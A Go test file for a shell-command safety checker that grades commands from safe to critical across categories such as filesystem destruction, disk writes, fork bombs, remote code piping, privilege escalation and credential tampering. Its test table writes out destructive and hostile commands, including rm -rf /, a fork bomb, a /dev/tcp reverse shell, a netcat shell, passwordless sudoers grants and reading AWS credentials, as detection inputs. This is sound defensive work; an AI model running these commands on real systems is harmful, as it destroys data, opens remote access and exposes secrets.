package safety

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"caro.sh/telemetry/schema"
)

const (
	safe     = schema.RiskSafe
	moderate = schema.RiskModerate
	high     = schema.RiskHigh
	critical = schema.RiskCritical
)

func TestCheck(t *testing.T) {
	cases := []struct {
		name    string
		command string
		risk    schema.RiskLevel
		cat     schema.PatternCategory
	}{
		// Filesystem destruction.
		{"deleting the root directory is critical", "rm -rf /", critical, schema.PatternFilesystemDestruction},
		{"deleting everything under root with sudo is critical", "sudo rm -rf /*", critical, schema.PatternFilesystemDestruction},
		{"deleting root past the preserve-root guard is critical", "rm -rf --no-preserve-root /", critical, schema.PatternFilesystemDestruction},
		{"deleting root as the last of several targets is critical", "rm -rf ./build /", critical, schema.PatternFilesystemDestruction},
		{"deleting root with separate flags is critical", "rm -r -f /", critical, schema.PatternFilesystemDestruction},
		{"deleting the home directory is critical", "rm -rf ~", critical, schema.PatternFilesystemDestruction},
		{"deleting $HOME in quotes is critical", `rm -rf "$HOME"`, critical, schema.PatternFilesystemDestruction},
		{"deleting /etc is critical", "sudo rm -rf /etc", critical, schema.PatternFilesystemDestruction},
		{"deleting a database directory under /var is high", "sudo rm -rf /var/lib/mysql", high, schema.PatternFilesystemDestruction},
		{"deleting everything in the current directory is high", "rm -rf *", high, schema.PatternFilesystemDestruction},
		{"deleting the current directory is high", "rm -rf .", high, schema.PatternFilesystemDestruction},
		{"deleting through a possibly empty variable is high", `rm -rf "$STEAMROOT/"*`, high, schema.PatternFilesystemDestruction},
		{"deleting all files here without recursion is moderate", "rm -f *", moderate, schema.PatternFilesystemDestruction},
		{"find -delete from the root is critical", "find / -name '*.tmp' -delete", critical, schema.PatternFilesystemDestruction},
		{"find -delete over the home directory is high", "find ~ -type f -delete", high, schema.PatternFilesystemDestruction},
		{"moving /usr away is critical", "sudo mv /usr /usr.old", critical, schema.PatternFilesystemDestruction},
		{"truncating /etc/passwd is critical", "echo '' > /etc/passwd", critical, schema.PatternFilesystemDestruction},
		{"shredding a file is moderate", "shred -u secret.txt", moderate, schema.PatternFilesystemDestruction},
		{"a command split with a backslash-newline is read as one line", "rm -rf \\\n  /", critical, schema.PatternFilesystemDestruction},
		{"destroying a ZFS pool is high: a deliberate act on named storage", "zpool destroy tank", high, schema.PatternFilesystemDestruction},
		{"a recursive delete names several targets and one is a system path", "sudo rm -rf /var/tmp/build /var/lib/mysql", high, schema.PatternFilesystemDestruction},
		{"emptying a cache folder under /var is safe", "sudo rm -rf /var/cache/apt/archives/*", safe, ""},
		{"a cache folder reached through .. is not a cache", "sudo rm -rf /var/cache/../lib/mysql", high, schema.PatternFilesystemDestruction},
		{"a path with an expansion is never a cache", "sudo rm -rf /var/tmp/$X/../../lib/mysql", high, schema.PatternFilesystemDestruction},
		{"deleting the documents folder is high", `rm -rf "$HOME/Documents"`, high, schema.PatternFilesystemDestruction},
		{"a quoted home followed by a path is not the home", `rm -rf "$HOME"/project/build`, safe, ""},
		{"a quoted home followed by a glob is the whole home", `rm -rf "$HOME"/*`, critical, schema.PatternFilesystemDestruction},
		{"a quoted root followed by a name is not the root", `rm -rf "/"build`, safe, ""},
		{"a quoted variable below the current directory is not all of it", `rm -rf ./"$dir"`, safe, ""},
		{"a quoted system directory followed by a glob is critical", `sudo rm -rf "/etc"/*`, critical, schema.PatternFilesystemDestruction},
		{"a recursive delete of a Windows drive is critical", `Remove-Item -Recurse -Force C:\`, critical, schema.PatternFilesystemDestruction},

		// Safe look-alikes of filesystem destruction.
		{"deleting a build directory is safe", "rm -rf ./build", safe, ""},
		{"deleting node_modules is safe", "rm -rf node_modules", safe, ""},
		{"deleting a temporary path is safe", "rm -rf /tmp/caro-test", safe, ""},
		{"deleting a folder in the home directory is safe", "rm -rf ~/Downloads/old", safe, ""},
		{"deleting log files by glob is safe", "rm *.log", safe, ""},
		{"deleting empty folders under the current directory is safe", "find . -type d -empty -delete", safe, ""},
		{"find under /tmp with -delete is safe", "find /tmp -name '*.tmp' -mtime +7 -delete", safe, ""},
		{"listing the root directory is safe", "ls -la /", safe, ""},
		{"the safe ${VAR:?} idiom is safe", `rm -rf "${BUILD_DIR:?}/out"`, safe, ""},

		// Quoting: see the package documentation.
		{"rm -rf / inside bash -c is critical", `bash -c "rm -rf /"`, critical, schema.PatternFilesystemDestruction},
		{"rm -rf / sent over ssh is critical", `ssh prod 'rm -rf /'`, critical, schema.PatternFilesystemDestruction},
		{"rm -rf / merely echoed is still critical, on purpose", `echo "rm -rf /"`, critical, schema.PatternFilesystemDestruction},
		{"a harmless command piped into a shell is moderate", `echo "ls -la" | sh`, moderate, schema.PatternOther},
		{"rm -rf / run inside a container is critical", "docker exec web rm -rf /", critical, schema.PatternFilesystemDestruction},
		{"rm -rf / behind a backslash that skips aliases is critical", `\rm -rf /`, critical, schema.PatternFilesystemDestruction},
		{"python removing the root tree is critical", `python3 -c "import shutil; shutil.rmtree('/')"`, critical, schema.PatternFilesystemDestruction},
		{"a reboot inside a command substitution is high", "echo $(shutdown now)", high, schema.PatternSystemShutdown},
		{"a reboot run by watch is high", "watch -n 60 'reboot'", high, schema.PatternSystemShutdown},
		{"a reboot over ssh is high", "ssh db1 sudo reboot", high, schema.PatternSystemShutdown},
		{"looking a command up with command -v is safe", "command -v shutdown", safe, ""},
		{"grepping a file for shutdown is safe", "cat README.md | grep shutdown", safe, ""},
		{"docker run --rm is not rm", "docker run --rm -v $(pwd):/app node npm test", safe, ""},
		{"find -exec rm under the current directory is safe", "find . -name '*.pyc' -exec rm {} +", safe, ""},

		// Disk and device writes.
		{"dd onto a disk is critical", "dd if=/dev/zero of=/dev/sda bs=1M", critical, schema.PatternDiskDeviceWrite},
		{"flashing an image onto a removable mac disk is high", "sudo dd if=ubuntu.iso of=/dev/rdisk2 bs=4m", high, schema.PatternDiskDeviceWrite},
		{"writing an image over a mac's internal disk is critical", "sudo dd if=ubuntu.iso of=/dev/rdisk0 bs=4m", critical, schema.PatternDiskDeviceWrite},
		{"formatting a second disk's partition is high", "sudo mkfs.ext4 /dev/sdb1", high, schema.PatternDiskDeviceWrite},
		{"formatting a partition of the system disk is critical", "sudo mkfs.ext4 /dev/sda1", critical, schema.PatternDiskDeviceWrite},
		{"a disk whose name only starts like the system disk's is not it", "sudo mkfs.ext4 /dev/sdaa1", high, schema.PatternDiskDeviceWrite},
		{"redirecting into a disk is critical", "cat /dev/urandom > /dev/sda", critical, schema.PatternDiskDeviceWrite},
		{"wiping a second disk's signatures is high", "wipefs -a /dev/sdb", high, schema.PatternDiskDeviceWrite},
		{"wiping the system disk's signatures is critical", "wipefs -a /dev/nvme0n1", critical, schema.PatternDiskDeviceWrite},
		{"erasing a removable mac disk is high", "diskutil eraseDisk APFS Empty disk2", high, schema.PatternDiskDeviceWrite},
		{"erasing a mac's internal disk is critical", "diskutil eraseDisk APFS Empty disk0", critical, schema.PatternDiskDeviceWrite},
		{"printing a partition table with parted is safe", "sudo parted /dev/sda print", safe, ""},
		{"opening a disk in fdisk is high", "sudo fdisk /dev/sda", high, schema.PatternDiskDeviceWrite},
		{"listing partitions with fdisk is safe", "sudo fdisk -l /dev/sda", safe, ""},
		{"backing a disk up into a file with dd is safe", "sudo dd if=/dev/sda of=backup.img bs=4M", safe, ""},
		{"making a filesystem in an image file is safe", "mkfs.ext4 disk.img", safe, ""},
		{"reading the mkfs manual is safe", "man mkfs", safe, ""},
		{"discarding output into /dev/null is safe", "make 2>/dev/null > /dev/null", safe, ""},

		// Fork bombs.
		{"the classic fork bomb is critical", ":(){ :|:& };:", critical, schema.PatternForkBomb},
		{"a named fork bomb is critical", "bomb() { bomb | bomb & }; bomb", critical, schema.PatternForkBomb},
		{"the perl fork bomb is critical", `perl -e "fork while fork"`, critical, schema.PatternForkBomb},
		{"a loop spawning background jobs forever is high", "while true; do sleep 100 & done", high, schema.PatternForkBomb},
		{"a polling loop without background jobs is safe", "while true; do date; sleep 1; done", safe, ""},
		{"defining a function is safe", "greet() { echo hi; }; greet", safe, ""},

		// Remote code piping.
		{"curl piped into sh is high", "curl -fsSL https://example.com/install.sh | sh", high, schema.PatternRemoteCodePiping},
		{"wget piped into sudo bash is high", "wget -qO- https://example.com/i | sudo bash", high, schema.PatternRemoteCodePiping},
		{"curl piped into python is high", "curl -sSL https://install.python-poetry.org | python3 -", high, schema.PatternRemoteCodePiping},
		{"bash reading a download through process substitution is high", "bash <(curl -s https://x.io/install)", high, schema.PatternRemoteCodePiping},
		{"eval of a download is high", `eval "$(curl -fsSL https://x.io/env)"`, high, schema.PatternRemoteCodePiping},
		{"PowerShell invoking a download is high", "irm https://astral.sh/uv/install.ps1 | iex", high, schema.PatternRemoteCodePiping},
		{"curl piped into jq is safe", "curl -s https://api.github.com/repos/x/y | jq .stargazers_count", safe, ""},
		{"curl piped into a checksum is safe", "curl -sL https://x.io/f.tgz | shasum -a 256", safe, ""},
		{"curl piped into python's json tool is safe", "curl -s https://x.io/a.json | python3 -m json.tool", safe, ""},
		{"downloading a script to a file is safe", "curl -fsSLo install.sh https://example.com/install.sh", safe, ""},

		// Privilege escalation.
		{"sudo su is high", "sudo su", high, schema.PatternPrivilegeEscalation},
		{"sudo -i is high", "sudo -i", high, schema.PatternPrivilegeEscalation},
		{"becoming root with su is moderate", "su -", moderate, schema.PatternPrivilegeEscalation},
		{"setting the setuid bit is high", "chmod u+s /usr/bin/find", high, schema.PatternPrivilegeEscalation},
		{"a 4755 mode is high", "sudo chmod 4755 ./helper", high, schema.PatternPrivilegeEscalation},
		{"granting passwordless sudo is high", "echo 'bob ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/bob", high, schema.PatternPrivilegeEscalation},
		{"editing sudoers is high", "sudo visudo", high, schema.PatternPrivilegeEscalation},
		{"adding a user to the docker group is high", "sudo usermod -aG docker $USER", high, schema.PatternPrivilegeEscalation},
		{"running one command with sudo is safe", "sudo apt update", safe, ""},
		{"running a shell command with sudo sh -c is safe", `sudo sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'`, safe, ""},
		{"becoming another user with su is safe", "su - postgres", safe, ""},
		{"making a script executable is safe", "chmod +x deploy.sh", safe, ""},
		{"a setgid shared directory is safe", "chmod g+s shared/", safe, ""},
		{"reading sudoers is safe", "sudo cat /etc/sudoers", safe, ""},
		{"searching sudoers for passwordless grants is safe", "sudo grep -rn 'NOPASSWD:' /etc/sudoers.d", safe, ""},
		{"a grant piped on after a search is still found", "grep -c x /etc/hosts; echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /tmp/x", high, schema.PatternPrivilegeEscalation},
		{"a grant after more commands than the lexer collects is still found", strings.Repeat("grep x f; ", maxCommands) + "echo 'bob ALL=(ALL) NOPASSWD: ALL' > /tmp/x", high, schema.PatternPrivilegeEscalation},
		{"checking the sudoers syntax is safe", "sudo visudo -c", safe, ""},

		// Permission changes.
		{"opening every permission on root is critical", "chmod -R 777 /", critical, schema.PatternPermissionChange},
		{"giving /usr away is critical", "sudo chown -R bob /usr", critical, schema.PatternPermissionChange},
		{"opening every permission on home is high", "chmod -R 777 ~", high, schema.PatternPermissionChange},
		{"a world-writable file is moderate", "chmod 777 script.sh", moderate, schema.PatternPermissionChange},
		{"a world-writable tree here is moderate", "chmod -R 777 .", moderate, schema.PatternPermissionChange},
		{"an ordinary directory mode is safe", "chmod 755 bin", safe, ""},
		{"a private key mode is safe", "chmod 600 ~/.ssh/id_rsa", safe, ""},
		{"taking ownership of a project is safe", "sudo chown -R $USER:$USER ~/project", safe, ""},

		// Network exposure and firewalls.
		{"a netcat listener is moderate", "nc -lvp 4444", moderate, schema.PatternNetworkExposure},
		{"a netcat shell is high", "nc -lvp 4444 -e /bin/bash", high, schema.PatternNetworkExposure},
		{"a reverse shell is high", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", high, schema.PatternNetworkExposure},
		{"serving a folder on every interface is moderate", "python3 -m http.server 8000", moderate, schema.PatternNetworkExposure},
		{"serving a folder on localhost only is safe", "python3 -m http.server 8000 --bind 127.0.0.1", safe, ""},
		{"binding a dev server to 0.0.0.0 is moderate", "flask run --host=0.0.0.0", moderate, schema.PatternNetworkExposure},
		{"disabling ufw is high", "sudo ufw disable", high, schema.PatternFirewallChange},
		{"allowing root logins through sed is high", "sudo sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", high, schema.PatternNetworkExposure},
		{"forbidding root logins through sed is safe", "sudo sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config", safe, ""},
		{"stopping ssh is high", "sudo systemctl stop sshd", high, schema.PatternOther},
		{"stopping the ssh agent is safe", "systemctl --user stop ssh-agent", safe, ""},
		{"flushing iptables is high", "sudo iptables -F", high, schema.PatternFirewallChange},
		{"stopping firewalld is high", "sudo systemctl stop firewalld", high, schema.PatternFirewallChange},
		{"listing iptables rules is safe", "sudo iptables -L -n", safe, ""},
		{"checking a port with netcat is safe", "nc -zv example.com 443", safe, ""},
		{"allowing ssh through ufw is safe", "sudo ufw allow ssh", safe, ""},

		// History and credential tampering.
		{"clearing history is moderate", "history -c", moderate, schema.PatternHistoryTampering},
		{"truncating the history file is moderate", "> ~/.bash_history", moderate, schema.PatternHistoryTampering},
		{"turning history off is moderate", "unset HISTFILE", moderate, schema.PatternHistoryTampering},
		{"showing history is safe", "history | tail -n 20", safe, ""},
		{"searching the history file is safe", "grep docker ~/.zsh_history", safe, ""},
		{"appending to authorized_keys is high", "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys", high, schema.PatternCredentialTampering},
		{"printing AWS credentials is high", "cat ~/.aws/credentials", high, schema.PatternCredentialTampering},
		{"printing a private key is high", "cat ~/.ssh/id_ed25519", high, schema.PatternCredentialTampering},
		{"deleting the ssh folder is high", "rm -rf ~/.ssh", high, schema.PatternCredentialTampering},
		{"dumping the keychain is high", "security dump-keychain -d login.keychain", high, schema.PatternCredentialTampering},
		{"printing a public key is safe", "cat ~/.ssh/id_ed25519.pub", safe, ""},
		{"reading authorized_keys is safe", "cat ~/.ssh/authorized_keys", safe, ""},
		{"forgetting a known host is safe", "ssh-keygen -R example.com", safe, ""},

		// Process killing and shutdown.
		{"killing every process is critical", "kill -9 -1", critical, schema.PatternProcessKilling},
		{"killing init is critical", "sudo kill -9 1", critical, schema.PatternProcessKilling},
		{"killing sshd is high", "sudo killall -9 sshd", high, schema.PatternProcessKilling},
		{"killing processes by name is moderate", "pkill -f node", moderate, schema.PatternProcessKilling},
		{"closing a named program with killall is safe", "killall firefox", safe, ""},
		{"killing a name as root is moderate", "sudo killall nginx", moderate, schema.PatternProcessKilling},
		{"a reload signal by name is safe", "sudo killall -HUP mDNSResponder", safe, ""},
		{"killing every process of a user is high", "sudo pkill -u alice", high, schema.PatternProcessKilling},
		{"killing one pid is safe", "kill -9 12345", safe, ""},
		{"sending SIGHUP to one pid is safe", "kill -1 4242", safe, ""},
		{"asking init to reload with SIGHUP is safe", "sudo kill -HUP 1", safe, ""},
		{"sending SIGHUP to every process is critical", "kill -HUP -1", critical, schema.PatternProcessKilling},
		{"shutting down is high", "sudo shutdown -h now", high, schema.PatternSystemShutdown},
		{"rebooting after another command is high", "sudo apt upgrade -y && sudo reboot", high, schema.PatternSystemShutdown},
		{"halting through systemctl is high", "systemctl poweroff", high, schema.PatternSystemShutdown},
		{"init 0 is high", "sudo init 0", high, schema.PatternSystemShutdown},
		{"crashing the kernel through sysrq is critical", "echo c > /proc/sysrq-trigger", critical, schema.PatternSystemShutdown},
		{"cancelling a scheduled shutdown is safe", "sudo shutdown -c", safe, ""},
		{"a shutdown in an hour is moderate: it can still be cancelled", "shutdown -h +60", moderate, schema.PatternSystemShutdown},
		{"a shutdown in zero minutes is now", "sudo shutdown -h +0", high, schema.PatternSystemShutdown},
		{"reading the shutdown manual is safe", "man shutdown", safe, ""},
		{"searching logs for reboots is safe", "grep -i reboot /var/log/syslog", safe, ""},
		{"counting reboots in a log is safe", "grep -c shutdown /var/log/syslog", safe, ""},
		{"showing the last reboots is safe", "last reboot", safe, ""},

		// Packages.
		{"removing a package is moderate", "sudo apt remove nginx", moderate, schema.PatternPackageRemoval},
		{"purging a package is moderate", "sudo apt purge mysql-server", moderate, schema.PatternPackageRemoval},
		{"uninstalling with brew is moderate", "brew uninstall node", moderate, schema.PatternPackageRemoval},
		{"removing libc is critical", "sudo apt-get remove -y libc6", critical, schema.PatternPackageRemoval},
		{"removing systemd is critical", "sudo apt purge systemd", critical, schema.PatternPackageRemoval},
		{"forcing a package out is high", "sudo dpkg --purge --force-all mypkg", high, schema.PatternPackageRemoval},
		{"deleting the system's libraries under /usr is high", "sudo rm -rf /usr/lib/python3", high, schema.PatternPackageRemoval},
		{"deleting add-on software under /usr/local is moderate, like uninstalling it", "sudo rm -rf /usr/local/lib/node_modules", moderate, schema.PatternPackageRemoval},
		{"installing a package is safe", "sudo apt install -y ripgrep", safe, ""},
		{"removing python3-pip is only moderate", "sudo apt remove python3-pip", moderate, schema.PatternPackageRemoval},

		// Version control.
		{"a hard reset is moderate", "git reset --hard HEAD~1", moderate, schema.PatternVersionControlLoss},
		{"cleaning ignored files is high", "git clean -fdx", high, schema.PatternVersionControlLoss},
		{"a force push is high", "git push --force origin main", high, schema.PatternVersionControlLoss},
		{"a force push with lease is moderate", "git push --force-with-lease", moderate, schema.PatternVersionControlLoss},
		{"deleting the .git folder is high", "rm -rf .git", high, schema.PatternVersionControlLoss},
		{"discarding all changes is moderate", "git checkout -- .", moderate, schema.PatternVersionControlLoss},
		{"deleting a branch by force is moderate", "git branch -D old-feature", moderate, schema.PatternVersionControlLoss},
		{"git status is safe", "git status", safe, ""},
		{"a soft reset is safe", "git reset --soft HEAD~1", safe, ""},
		{"a dry-run clean is safe", "git clean -n", safe, ""},
		{"an ordinary push is safe", "git push -u origin feature-fix", safe, ""},
		{"pushing tags is safe", "git push --follow-tags", safe, ""},

		// Containers and other systems.
		{"pruning every docker object is high", "docker system prune -a", high, schema.PatternContainerDestruction},
		{"deleting a docker volume is high", "docker volume rm pgdata", high, schema.PatternContainerDestruction},
		{"removing every container is high", "docker rm -f $(docker ps -aq)", high, schema.PatternContainerDestruction},
		{"deleting a kubernetes namespace is high", "kubectl delete ns staging", high, schema.PatternContainerDestruction},
		{"deleting one pod is moderate", "kubectl delete pod web-1", moderate, schema.PatternContainerDestruction},
		{"pruning dangling docker data is moderate", "docker system prune", moderate, schema.PatternContainerDestruction},
		{"listing containers is safe", "docker ps -a", safe, ""},
		{"stopping compose services is safe", "docker compose down", safe, ""},
		{"listing kubernetes pods is safe", "kubectl get pods -A", safe, ""},
		{"destroying terraform infrastructure is high", "terraform destroy -auto-approve", high, schema.PatternOther},
		{"dropping a database is high", `mysql -u root -e "DROP DATABASE shop"`, high, schema.PatternOther},
		{"flushing redis is high", "redis-cli FLUSHALL", high, schema.PatternOther},
		{"disabling SELinux is high", "sudo setenforce 0", high, schema.PatternOther},
		{"removing the crontab is moderate", "crontab -r", moderate, schema.PatternOther},
		{"listing the crontab is safe", "crontab -l", safe, ""},
		{"a filtered delete is safe", `sqlite3 app.db "DELETE FROM sessions WHERE expires < date('now')"`, safe, ""},

		// Everyday commands.
		{"an empty command is safe", "", safe, ""},
		{"listing files is safe", "ls -la", safe, ""},
		{"disk usage is safe", "du -sh * | sort -h", safe, ""},
		{"finding large files is safe", "find . -type f -size +100M -exec du -h {} + | sort -rh | head -n 20", safe, ""},
		{"showing processes is safe", "ps aux --sort=-%cpu | head -n 20", safe, ""},
		{"compressing a folder is safe", "tar -czf photos.tar.gz photos", safe, ""},
		{"searching text is safe", "grep -rn 'TODO' .", safe, ""},
		{"showing open ports is safe", "ss -tulpn", safe, ""},
		{"renaming extensions in a loop is safe", `for f in *.txt; do mv -- "$f" "${f%.txt}.md"; done`, safe, ""},
		{"editing a config in place is safe", "sed -i 's/foo/bar/g' config.yaml", safe, ""},
	}
	if len(cases) < 80 {
		t.Fatalf("only %d cases; the table must hold at least 80", len(cases))
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			v := Check(c.command)
			if v.Risk != c.risk || v.Category != c.cat {
				t.Errorf("Check(%q) = %+v, want risk %s, category %q (matched: %v)", c.command, v, c.risk, c.cat, matchedIDs(c.command))
			}
			if (v.Risk == safe) != (v.Matched == 0) {
				t.Errorf("Check(%q) = %+v: a safe verdict must match nothing and only a safe one", c.command, v)
			}
			if v.Blocked() != (v.Risk == critical) {
				t.Errorf("Blocked() = %v for %s", v.Blocked(), v.Risk)
			}
		})
	}
}

// matchedIDs lists the patterns a command matches, for failure messages.
func matchedIDs(command string) []string {
	setup()
	var ids []string
	in := newInput(command)
	for i, r := range rules {
		if in.matches(i, r) {
			ids = append(ids, r.id)
		}
	}
	return ids
}

func TestEveryPatternIsReachable(t *testing.T) {
	for _, p := range patterns {
		t.Run(p.id+" matches each of its examples", func(t *testing.T) {
			if len(p.examples) == 0 {
				t.Fatal("pattern has no example")
			}
			for _, ex := range p.examples {
				if !slices.Contains(matchedIDs(ex), p.id) {
					t.Errorf("example %q does not match (hints %v, at %v)", ex, p.hints, p.at)
				}
				if v := Check(ex); rank(v.Risk) < rank(p.risk) {
					t.Errorf("Check(%q) = %s, below the pattern's own %s", ex, v.Risk, p.risk)
				}
			}
		})
	}
}

func TestPatternTable(t *testing.T) {
	t.Run("the table holds at least fifty patterns", func(t *testing.T) {
		if Patterns() < 50 {
			t.Errorf("Patterns() = %d", Patterns())
		}
	})
	t.Run("every expression compiles", func(t *testing.T) {
		for _, p := range patterns {
			for _, e := range []string{p.expr, p.unless} {
				if _, err := regexp.Compile(e); err != nil {
					t.Errorf("%s: %v", p.id, err)
				}
			}
		}
	})
	t.Run("pattern ids are unique", func(t *testing.T) {
		seen := map[string]bool{}
		for _, p := range patterns {
			if seen[p.id] {
				t.Errorf("duplicate id %s", p.id)
			}
			seen[p.id] = true
		}
	})
	t.Run("every pattern has a schema category and a non-safe risk", func(t *testing.T) {
		for _, p := range patterns {
			if !slices.Contains(schema.PatternCategories(), p.category) {
				t.Errorf("%s: category %q is not in the schema", p.id, p.category)
			}
			if !slices.Contains(schema.RiskLevels(), p.risk) || p.risk == safe {
				t.Errorf("%s: risk %q", p.id, p.risk)
			}
		}
	})
	t.Run("hints and anchor words are lowercase so that they match the lowercased command", func(t *testing.T) {
		for _, p := range patterns {
			for _, h := range append(slices.Clone(p.hints), p.at...) {
				if h != strings.ToLower(h) {
					t.Errorf("%s: %q", p.id, h)
				}
			}
		}
	})
	t.Run("a command pattern names its command words", func(t *testing.T) {
		for _, p := range patterns {
			if p.cmd && len(p.at) == 0 {
				t.Errorf("%s has no at words", p.id)
			}
		}
	})
	t.Run("a content pattern has hints and no anchor words", func(t *testing.T) {
		for _, p := range patterns {
			if p.content && (len(p.hints) == 0 || len(p.at) > 0 || p.cmd) {
				t.Errorf("%s", p.id)
			}
		}
	})
	t.Run("a pattern that skips targets captures one and is not a command pattern", func(t *testing.T) {
		for _, p := range patterns {
			if p.skip == nil {
				continue
			}
			if re := regexp.MustCompile(p.expr); re.NumSubexp() < 1 || p.cmd || p.content {
				t.Errorf("%s: %d groups, cmd %v, content %v", p.id, re.NumSubexp(), p.cmd, p.content)
			}
		}
	})
	t.Run("a text pattern has hints, so that it is not searched in every command", func(t *testing.T) {
		for _, p := range patterns {
			if len(p.at) == 0 && len(p.hints) == 0 {
				t.Errorf("%s has neither at words nor hints", p.id)
			}
		}
	})
	t.Run("every schema category has a pattern", func(t *testing.T) {
		used := map[schema.PatternCategory]bool{}
		for _, p := range patterns {
			used[p.category] = true
		}
		for _, c := range schema.PatternCategories() {
			if !used[c] {
				t.Errorf("no pattern of category %s", c)
			}
		}
	})
	t.Run("every risk level above safe is used", func(t *testing.T) {
		for _, r := range []schema.RiskLevel{moderate, high, critical} {
			if !slices.ContainsFunc(patterns, func(p pattern) bool { return p.risk == r }) {
				t.Errorf("no %s pattern", r)
			}
		}
	})
}

func TestCheckCountsEveryMatchedPattern(t *testing.T) {
	// rm -rf * matches both the recursive and the plain "everything here"
	// patterns; the verdict keeps the higher risk.
	v := Check("rm -rf *")
	if v.Matched != 2 || v.Risk != high {
		t.Errorf("Check = %+v, want 2 matches at high", v)
	}
	v = Check("curl -s https://x.io/i | sudo bash; sudo reboot")
	if v.Matched < 2 || v.Risk != high || v.Category != schema.PatternRemoteCodePiping {
		t.Errorf("Check = %+v, want the first high pattern's category", v)
	}
}

func TestCheckBoundsItsWork(t *testing.T) {
	cases := []struct {
		name    string
		command string
		risk    schema.RiskLevel
	}{
		{"a command over the length limit is high without being read", "echo " + strings.Repeat("a", MaxCommandLen), high},
		{"a command at the length limit is read", "ls " + strings.Repeat("a", MaxCommandLen-3), safe},
		{"a word repeated past the limit of tries is high", strings.Repeat("rm -r a ", MaxCommandLen/8-1), high},
		{"a git chain repeated past the limit of tries is high", strings.Repeat("git -C x ", MaxCommandLen/9-1), high},
		{"a word repeated up to the limit of tries is read", strings.Repeat("git status; ", maxTries), safe},
		{"a long run of separators is read quickly", strings.Repeat("a;", MaxCommandLen/2-1), safe},
		{"a long nest of quotes and substitutions is read quickly", strings.Repeat(`"$(`, MaxCommandLen/3-1), safe},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			start := time.Now()
			v := Check(c.command)
			if v.Risk != c.risk {
				t.Errorf("risk %s, want %s", v.Risk, c.risk)
			}
			t.Logf("%d bytes in %v", len(c.command), time.Since(start))
		})
	}
}

func FuzzCheck(f *testing.F) {
	for _, p := range patterns {
		for _, ex := range p.examples {
			f.Add(ex)
		}
	}
	f.Add("ls -la")
	f.Add("")
	f.Fuzz(func(t *testing.T, command string) {
		v := Check(command)
		if !slices.Contains(schema.RiskLevels(), v.Risk) {
			t.Fatalf("risk %q", v.Risk)
		}
		if (v.Risk == safe) != (v.Category == "") || (v.Risk == safe) != (v.Matched == 0) {
			t.Fatalf("inconsistent verdict %+v", v)
		}
		if v.Category != "" && !slices.Contains(schema.PatternCategories(), v.Category) {
			t.Fatalf("category %q", v.Category)
		}
		if v.Matched > Patterns() {
			t.Fatalf("matched %d of %d", v.Matched, Patterns())
		}
	})
}

func BenchmarkCheck(b *testing.B) {
	commands := []struct{ name, cmd string }{
		{"safe short", "ls -la"},
		{"safe pipeline", "find . -type f -size +100M -exec du -h {} + | sort -rh | head -n 20"},
		{"critical", "sudo rm -rf --no-preserve-root /"},
		{"remote piping", "curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes"},
		{"long safe", strings.Repeat("echo hello world && ", 50) + "true"},
		// The hostile inputs of TestCheckBoundsItsWork, near MaxCommandLen.
		{"adversarial rm words 8KB", strings.Repeat("rm -r a ", MaxCommandLen/8-1)},
		{"adversarial git chain 8KB", strings.Repeat("git -C x ", MaxCommandLen/9-1)},
		{"adversarial rm targets 8KB", "rm -rf " + strings.Repeat("/var/tmp/a ", MaxCommandLen/11-1)},
		{"adversarial separators 8KB", strings.Repeat("a;", MaxCommandLen/2-1)},
		{"adversarial nesting 8KB", strings.Repeat(`"$(`, MaxCommandLen/3-1)},
		// Every hint of the rm rules, so that all of them run.
		{"adversarial rm all hints 8KB", strings.Repeat("rm -rf /home/x/Documents/opt/log/.ssh/.git/tmp/a ", MaxCommandLen/50-1)},
		// Content rules with a searcher present: the text is lexed.
		{"adversarial content and grep 8KB", strings.Repeat("grep NOPASSWD: PermitRootLogin yes DROP TABLE x; ", MaxCommandLen/51-1)},
	}
	for _, c := range commands {
		Check(c.cmd) // compile the expressions these need outside the measurement
	}
	for _, c := range commands {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Check(c.cmd)
			}
		})
	}
}

// BenchmarkCompileAll is what compiling the whole table at start-up would
// cost; rules compile lazily instead.
func BenchmarkCompileAll(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		for _, p := range patterns {
			_ = regexp.MustCompile(p.expr)
		}
	}
}
